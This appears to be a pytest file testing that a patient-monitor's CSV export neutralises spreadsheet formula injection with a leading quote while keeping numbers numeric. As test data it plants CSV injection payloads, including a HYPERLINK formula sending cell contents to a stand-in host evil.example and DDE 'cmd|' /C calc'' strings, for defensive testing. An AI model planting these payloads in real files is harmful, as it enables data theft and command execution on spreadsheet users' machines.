"""CSV injection (issue 11, "Exports"): a text cell that begins with =, +, -, @, a tab or a carriage return is
written with a leading single quote in every CSV table, so a spreadsheet shows it as text; numbers,
negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import time
import zipfile

import pytest

from monitor.alarms.profile import default_profile
from monitor.app.pipeline import open_pipeline
from monitor.app.service import SessionService
from monitor.export import export_session
from monitor.export.csv_export import neutralise
from monitor.patient import Patient
from monitor.protocols import KetamineIVPlan
from monitor.settings import ClinicSettings
from monitor.staff import Actor, Role
from monitor.store import SessionStore
from tests.factories import sign_in

NURSE = Actor(username="nina", display_name="Nina Park", role=Role.NURSE)
PLANTED = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
           "\tTAB=1+1", "\rCR=1+1"]


@pytest.mark.parametrize("cell,written", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-3.5", "-3.5"), ("-12", "-12"), ("+2", "+2"), ("-1E+5", "-1E+5"), ("-inf", "-inf"), ("plain", "plain"),
    ("", ""), (-3.5, -3.5),
])
def test_text_cells_are_neutralised_numbers_are_not(cell, written):
    assert neutralise(cell) == written


@pytest.fixture
def exported(tmp_path):
    store = SessionStore(tmp_path / "s.sqlite")
    service = SessionService(open_pipeline("sim://?scenario=normal&speed=60&waves=0&nibp=3600", store,
                                           ClinicSettings(), default_profile(), tick_s=0.05))
    service.pipeline.start()
    try:
        sid = service.start_session(Patient(display_name="Jo Doe", weight_kg=70),
                                    KetamineIVPlan(dose_mg_per_kg=0.5, weight_kg=70), NURSE)
        deadline = time.monotonic() + 30            # numerics of its own before it is closed (CI is slower)
        while not service.pipeline.call(lambda: service.pipeline.session_view().latest):
            assert time.monotonic() < deadline, "no vitals reached the session"
            time.sleep(0.05)
        for text in PLANTED:
            service.record_event({"kind": "note", "text": text}, NURSE)
        service.abort_session(sign_in(service, NURSE), "=cmd|' /C calc'!A0")
    finally:
        service.pipeline.stop()
    path = export_session(store, sid, "csv", tmp_path / "s.zip")
    with zipfile.ZipFile(path) as z:
        tables = {name: list(csv.reader(io.StringIO(z.read(name).decode("utf-8"), newline="")))
                  for name in z.namelist()}
    store.close()
    return tables


def test_no_csv_cell_starts_a_formula(exported):
    risky = [(name, cell) for name, rows in exported.items() for row in rows for cell in row
             if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and neutralise(cell) != cell]
    assert risky == []
    cells = {cell for rows in exported.values() for row in rows for cell in row}
    for text in PLANTED[:4]:          # (the record trims a note's leading tab or CR: those never reach a cell)
        assert "'" + text in cells, text
    assert "'=cmd|' /C calc'!A0" in cells                  # the abort reason too


def test_numbers_stay_numbers(exported):
    rows = exported["numerics_long.csv"]
    values = [float(r[3]) for r in rows[1:] if r[3]]
    assert values and all(isinstance(v, float) for v in values)
    elapsed = [r[1] for r in exported["events.csv"][1:]]
    assert elapsed and all(float(e) >= 0 for e in elapsed)     # plain numbers, no quote
    assert not any(cell.startswith("'-") and neutralise(cell[1:]) == cell[1:]
                   for rows in exported.values() for row in rows for cell in row)
